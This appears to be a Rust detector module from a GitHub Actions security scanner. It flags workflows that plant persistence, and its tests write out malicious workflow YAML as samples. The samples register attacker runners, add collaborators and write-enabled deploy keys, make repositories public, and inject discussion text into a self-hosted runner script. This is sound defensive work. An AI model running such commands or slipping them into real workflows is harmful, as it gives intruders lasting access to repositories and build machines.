//! A workflow that gives somebody a way back in: a runner, another workflow, a key, or a command line for strangers.
//!
//! With a token that may do so, a workflow can register a machine of the thief's as a self-hosted runner (as Shai-Hulud
//! did), commit further workflows, add a deploy key or a collaborator, or make a repository public. On a machine of the owner's own,
//! a job that does nothing but paste the text of a discussion or an issue into its script is a command line for everybody. None of
//! these carries a secret away by itself; all of them outlive the clean-up of what brought them.
//!
//! ```yaml
//! - run: gh api -X POST repos/$GITHUB_REPOSITORY/actions/runners/registration-token
//! ```

use crate::flow::trace::ObservationKind;
use crate::signal::Signal;
use crate::technique::{Evidence, Sighting, Technique};

/// See the module's documentation.
pub(super) struct Backdoor;

impl Technique for Backdoor {
    fn id(&self) -> &'static str {
        "backdoor"
    }
    fn headline(&self) -> &'static str {
        "the workflow makes itself a way back in"
    }
    fn remedy(&self) -> &'static str {
        "look for runners and workflows that nobody knows, take them out, and invalidate the token it used"
    }
    fn source(&self) -> &'static str {
        include_str!("backdoor.rs")
    }

    fn look(&self, evidence: &Evidence<'_>) -> Vec<Sighting> {
        let single_purpose = |job: usize| evidence.trace.other_work.get(job).is_some_and(|count| *count <= 1);
        let mut found = Vec::new();
        for (at, observation) in evidence.trace.observations.iter().enumerate() {
            let mut signals = std::collections::BTreeSet::new();
            let alone = single_purpose(observation.job) && !evidence.workflow.is_action;
            match observation.kind {
                ObservationKind::RegistersRunner => signals.insert(Signal::RegistersRunner),
                ObservationKind::StartsRunner => signals.insert(Signal::StartsRunner),
                ObservationKind::WritesWorkflow => signals.insert(Signal::WritesWorkflow),
                ObservationKind::GrantsAccess => signals.insert(Signal::GrantsAccess),
                ObservationKind::UntrustedInScript if alone && on_own_machine(evidence, observation.job) => {
                    signals.insert(Signal::OutsidersCommands)
                }
                _ => continue,
            };
            if alone {
                signals.insert(Signal::SinglePurpose);
            }
            found.push(Sighting { observations: vec![at], signals, ..Sighting::default() });
        }
        found.sort_by_key(|sighting| std::cmp::Reverse(crate::verdict::weigh(self.id(), &sighting.signals)));
        found.truncate(1);
        found
    }
}

/// Whether a job runs on a self-hosted runner, started by what outsiders do, in a workflow that has no other job.
fn on_own_machine(evidence: &Evidence<'_>, job: usize) -> bool {
    const OUTSIDERS: &[&str] = &[
        "discussion",
        "discussion_comment",
        "issues",
        "issue_comment",
        "pull_request_target",
        "pull_request_review",
        "pull_request_review_comment",
        "fork",
        "watch",
        "gollum",
    ];
    let jobs = &evidence.workflow.jobs;
    let own = jobs
        .get(job)
        .is_some_and(|job| job.runs_on.iter().any(|label| label.eq_ignore_ascii_case("self-hosted")));
    own && jobs.len() == 1
        && evidence.workflow.triggers.iter().any(|trigger| OUTSIDERS.contains(&trigger.event.as_str()))
}

#[cfg(test)]
mod tests {
    use crate::report::Verdict;
    use crate::testing::{check, silent};

    #[test]
    fn a_runner_is_registered() {
        check(
            "backdoor",
            "on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: gh api -X POST repos/me/it/actions/runners/registration-token\n        env: {GH_TOKEN: '${{ secrets.PAT }}'}\n",
            Verdict::Malicious,
            &[],
            &[],
        );
    }

    /// The method decides: without a body, `-X PUT` is all that tells the call from a question.
    #[test]
    fn a_collaborator_by_curl() {
        let text = |option: &str| {
            format!(
                "on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: 'curl {option} -H \"Authorization: token ${{{{ secrets.PAT }}}}\" https://api.github.com/repos/me/it/collaborators/someone'\n"
            )
        };
        for option in ["-X PUT", "-XPUT", "--request PUT"] {
            check("backdoor", &text(option), Verdict::Malicious, &[], &[]);
        }
        silent(&text(""));
    }

    #[test]
    fn a_command_line_for_strangers() {
        check(
            "backdoor",
            "on: discussion\njobs:\n  a:\n    runs-on: self-hosted\n    steps:\n      - run: echo ${{ github.event.discussion.body }}\n",
            Verdict::Malicious,
            &[],
            &[],
        );
    }

    #[test]
    fn the_machine_becomes_a_runner() {
        check(
            "backdoor",
            "on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - run: make\n      - run: ./config.sh --url https://github.com/someone/else --token placeholder --unattended\n",
            Verdict::Malicious,
            &[],
            &[],
        );
    }

    #[test]
    fn keys_and_collaborators() {
        for call in [
            "gh api -X PUT repos/$GITHUB_REPOSITORY/collaborators/someone",
            "gh api repos/$GITHUB_REPOSITORY/keys -f title=x -f key=\"ssh-ed25519 AAAA\"",
            "gh repo deploy-key add key.pub --allow-write",
            "gh repo edit --visibility public",
            "curl -X PATCH -H \"Authorization: token $GH_TOKEN\" https://api.github.com/repos/me/it -d '{\"private\": false}'",
        ] {
            check(
                "backdoor",
                &format!(
                    "on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: |\n          {call}\n        env: {{GH_TOKEN: '${{{{ secrets.PAT }}}}'}}\n"
                ),
                Verdict::Malicious,
                &[],
                &[],
            );
        }
    }

    /// Near miss: a stranger's text in a workflow that does other work too is a door, and a title on a hosted machine as well.
    #[test]
    fn text_on_a_hosted_machine_is_a_door_only() {
        check(
            "script-injection",
            "on: issues\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo ${{ github.event.issue.title }}\n",
            Verdict::Exposed,
            &[],
            &[],
        );
    }

    #[test]
    fn other_calls_are_none() {
        silent(
            "on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: gh api repos/me/it/actions/runs\n        env: {GH_TOKEN: '${{ github.token }}'}\n",
        );
    }
}
